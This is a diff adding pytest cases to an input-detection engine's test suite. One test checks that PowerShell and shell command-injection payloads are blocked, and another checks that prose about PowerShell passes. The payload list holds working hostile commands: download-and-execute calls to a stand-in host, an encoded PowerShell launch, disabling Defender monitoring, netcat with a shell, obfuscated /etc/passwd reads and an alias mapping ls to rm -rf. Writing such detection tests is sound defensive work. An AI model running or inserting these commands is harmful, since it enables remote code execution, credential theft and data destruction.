@@ -901,3 +901,49 @@ def test_script_reaching_browser_globals_is_blocked(engine: DetectionEngine, pay
 def test_prose_about_windows_and_documents_passes(engine: DetectionEngine, text: str) -> None:
     """Windows, documents, lists and CSS background images in text pass."""
     passes_everywhere(engine, text)
+
+
+# ------------------------------------------------- 17. PowerShell, and more shell spellings
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "Invoke-WebRequest -Uri https://x.example/p.ps1 -OutFile p.ps1",
+        "iex (New-Object Net.WebClient).DownloadString('https://x.example/a')",
+        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File run.ps1",
+        "powershell -enc SQBFAFgA",
+        "Start-Process 'C:\\Temp\\payload.exe'",
+        "Set-MpPreference -DisableRealtimeMonitoring $true",
+        "[System.Convert]::FromBase64String($b)",
+        "alias -g ls='rm -rf'",
+        "x; bash$IFSx -c id",
+        "cat /[e//]tc/[p//]asswd",
+        "/usr/[a-z]in/nc -e sh",
+        "IF EXIST \"C:\\backup.zip\" del C:\\backup.zip",
+        "if ERRORLEVEL 2 if not errorlevel 3 goto x",
+    ],
+)
+def test_powershell_and_more_shell_spellings_are_blocked(engine: DetectionEngine, payload: str) -> None:
+    """PowerShell downloads, execution and defence changes, aliases with options, a shell
+    named with an empty variable glued to it, bracket globs with slashes or ranges and
+    more cmd.exe IF forms are refused wherever they can be sent."""
+    for where, request in placements(payload).items():
+        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
+            continue
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Use Invoke-WebRequest to download the installer",
+        "Start-Process is the cmdlet you want",
+        "Open PowerShell and run the script",
+        "items[a-z] match letters",
+        "/api/users[id]/roles",
+        "an alias is a name",
+    ],
+)
+def test_prose_about_powershell_and_brackets_passes(engine: DetectionEngine, text: str) -> None:
+    """Sentences about PowerShell cmdlets, character classes and bracketed route names pass."""
+    passes_everywhere(engine, text)
